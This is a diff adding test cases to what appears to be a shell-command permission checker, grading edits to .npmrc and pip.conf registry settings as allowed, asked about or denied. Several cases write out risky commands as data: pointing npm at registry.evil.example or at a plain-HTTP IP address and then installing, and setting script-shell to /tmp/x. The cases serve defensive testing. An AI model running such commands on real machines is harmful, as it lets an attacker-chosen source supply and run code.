@@ -69,6 +69,23 @@ BENIGN: list[Case] = [
     ("npm config set save-exact=true", ALLOW, "KEY=VALUE"),
     ("pip config set global.timeout 60", ALLOW, "pip's SECTION.KEY"),
     ("echo 'ignore-scripts=false' >> .npmrc", ASK, "install scripts switched back on"),
+    # the index named is the ecosystem's own public one over HTTPS: packages come from there
+    # anyway; any other index, plain HTTP, or a credential beside it is judged as before
+    ("printf 'registry=https://registry.npmjs.org/\\n' > .npmrc && npm ci", ALLOW,
+     "npm's own registry"),
+    ("echo '@acme:registry=https://registry.npmjs.org/' >> .npmrc", ALLOW, "a scope's, npm's"),
+    ("printf '[global]\\nindex-url = https://pypi.org/simple\\n' > pip.conf", ALLOW,
+     "PyPI itself"),
+    ("echo 'registry=http://203.0.113.5/npm/' >> .npmrc && npm ci", DENY,
+     "plain HTTP at a public address chooses the code"),
+    ("printf 'registry=https://registry.evil.example/\\n' > .npmrc && npm install", ASK,
+     "another registry"),
+    ("printf 'registry=http://registry.npmjs.org/\\n' > .npmrc", DENY, "npm's, over plain HTTP"),
+    ("printf 'registry=https://registry.npmjs.org/\\nalways-auth=true\\n' > .npmrc", ASK,
+     "a credential sent with every request"),
+    ("printf 'registry=https://registry.npmjs.org/\\nscript-shell=/tmp/x\\n' > .npmrc", DENY,
+     "a program to run beside it"),
+    ("echo '//registry.npmjs.org/:_authToken=abc' >> .npmrc", ASK, "a token stored"),
 ]
 
 # Brace sequences: bash expands {e..e} to e before anything else, as it does a comma list.
